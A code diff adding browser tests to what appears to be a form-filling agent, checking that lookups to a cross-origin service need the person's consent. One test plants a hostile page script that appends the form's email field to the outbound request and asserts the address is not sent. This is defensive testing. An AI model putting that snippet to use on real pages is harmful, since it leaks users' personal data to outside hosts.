@@ -2,15 +2,19 @@
 
 from __future__ import annotations
 
+import json
 from collections.abc import Iterator
 from pathlib import Path
+from typing import ClassVar
+from urllib.parse import parse_qs, urlsplit
 
 import pytest
 
+from steadyhand.adapters.net.serve import listening
 from steadyhand.core.answer.facts import QuestionKind
 from steadyhand.testing import ScriptedHuman
 
-from .rig import YES, applied
+from .rig import YES, Handler, applied
 from .site import Hostile, form, hostile
 
 pytestmark = pytest.mark.browser
@@ -90,3 +94,79 @@ async def test_a_list_that_comes_from_another_site_is_asked_about_once(
     assert receipt.status == "submitted", receipt.errors
     assert len(about(human, other.origin)) == 1
     assert site.posted[0]["harbour"] == ["Kiel"]
+
+
+LOOKS_UP = """<label id=named>Town</label><input id=town name=town role=combobox required
+ aria-labelledby=named aria-expanded=false aria-controls=found aria-autocomplete=list
+ autocomplete=off><ul id=found role=listbox hidden></ul><script>
+town.oninput = async () => {
+  const asked = "%(to)s/towns?q=" + encodeURIComponent(town.value) + more();
+  const told = await (await fetch(asked)).json().catch(() => []);
+  found.replaceChildren();
+  for (const name of told) {
+    const option = Object.assign(document.createElement("li"), { textContent: name });
+    option.setAttribute("role", "option");
+    option.onmousedown = (e) => { e.preventDefault(); town.value = picked = name; shut(); };
+    found.append(option);
+  }
+  found.hidden = !told.length;
+  town.setAttribute("aria-expanded", String(!found.hidden));
+};
+let picked = "";
+const more = () => %(more)s;
+const shut = () => { found.hidden = true; town.setAttribute("aria-expanded", "false"); };
+town.onblur = () => { if (town.value !== picked) town.value = ""; shut(); };
+</script>"""
+TOWNS = ("Emden", "Emmerich", "Eutin")
+
+
+class Towns(Handler):
+    """A service that pages of any site look towns up at."""
+
+    asked: ClassVar[list[str]] = []
+
+    def do_GET(self) -> None:
+        self.asked.append(self.path)
+        begin = parse_qs(urlsplit(self.path).query).get("q", [""])[0].casefold()
+        found = [name for name in TOWNS if begin and name.casefold().startswith(begin)]
+        self.say(json.dumps(found).encode(), "application/json")
+
+    def end_headers(self) -> None:
+        self.send_header("Access-Control-Allow-Origin", "*")
+        super().end_headers()
+
+
+@pytest.fixture
+def towns() -> Iterator[str]:
+    Towns.asked.clear()
+    with listening(Towns) as origin:
+        yield origin
+
+
+@pytest.mark.parametrize("allows", [True, False])
+async def test_a_place_that_is_looked_up_at_another_site_is_asked_about_once_by_its_field(
+    sites: tuple[Hostile, Hostile], towns: str, tmp_path: Path, *, allows: bool
+) -> None:
+    site, _ = sites
+    site.page = form(LOOKS_UP % {"to": towns, "more": "''"})
+    human = ScriptedHuman({**YES, "yes_no": allows, "Town": "Emden"})
+    receipt = await applied(site, tmp_path, human, allow=(towns,))
+    (question,) = about(human, towns)
+    assert "'Town'" in question
+    assert (receipt.status == "submitted") is allows, receipt.errors
+    if allows:
+        assert site.posted[0]["town"] == ["Emden"]
+        assert {urlsplit(path).path for path in Towns.asked} == {"/towns"}
+    else:
+        assert Towns.asked == []
+
+
+async def test_beside_that_text_nothing_else_is_told_there(
+    sites: tuple[Hostile, Hostile], towns: str, tmp_path: Path
+) -> None:
+    site, _ = sites
+    tells = "'&by=' + document.querySelector('[name=mail]').value"
+    site.page = form(LOOKS_UP % {"to": towns, "more": tells})
+    human = ScriptedHuman({**YES, "yes_no": True, "Town": "Emden"})
+    await applied(site, tmp_path, human, allow=(towns,))
+    assert not [path for path in Towns.asked if "brandt" in path]
